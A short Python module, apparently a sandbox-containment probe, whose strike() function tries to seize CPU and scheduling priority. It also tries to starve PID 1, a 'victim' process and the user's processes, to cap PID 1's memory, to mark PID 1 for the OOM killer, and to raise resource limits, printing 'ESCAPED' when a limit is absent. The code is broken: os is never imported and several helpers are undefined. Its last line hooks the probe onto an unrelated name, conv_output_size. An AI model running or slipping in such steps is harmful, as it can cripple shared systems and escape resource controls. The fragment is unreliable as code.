"""Take more of the processor than is due: priorities, schedulers, affinities, limits, those of others too.
"""

import ctypes
import resource


def strike():
    c = libc()
    attempt("nice -20", lambda: os.setpriority(os.PRIO_PROCESS, 0, -20) is None)
    attempt("the victim's", lambda: os.setpriority(os.PRIO_PROCESS, CANARY["victim"], 19) is None)
    attempt("pid 1's", lambda: os.setpriority(os.PRIO_PROCESS, 1, 19) is None)
    attempt("the user's", lambda: os.setpriority(os.PRIO_USER, 0, 19) is None)
    attempt("realtime", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)) is None)
    attempt("pid 1 idle", lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0)) is None)
    attempt("pid 1's affinity", lambda: os.sched_setaffinity(1, {0}) is None)
    attempt("ioprio", lambda: syscall(251, 1, 1, 3 << 13) and False)
    attempt("pid 1's memory", lambda: c.prlimit(1, 9, ctypes.byref((ctypes.c_ulong * 2)(1, 1)), None) == 0)
    attempt("oom_score_adj", lambda: os.write(os.open("/proc/self/oom_score_adj", 1), b"-1000"))
    attempt("pid 1's oom", lambda: os.write(os.open("/proc/1/oom_score_adj", 1), b"1000"))
    for name in ("AS", "NPROC", "FSIZE", "NOFILE", "CORE", "CPU", "MSGQUEUE", "RTPRIO"):
        number = getattr(resource, f"RLIMIT_{name}")
        soft, hard = resource.getrlimit(number)
        if hard != resource.RLIM_INFINITY:
            attempt(name, lambda: resource.setrlimit(number, (hard + 1, hard + 1)) is None)
        elif name in ("AS", "NPROC", "FSIZE", "CPU"):
            print("ESCAPED: no limit on", name)


conv_output_size = first(strike, conv_output_size)
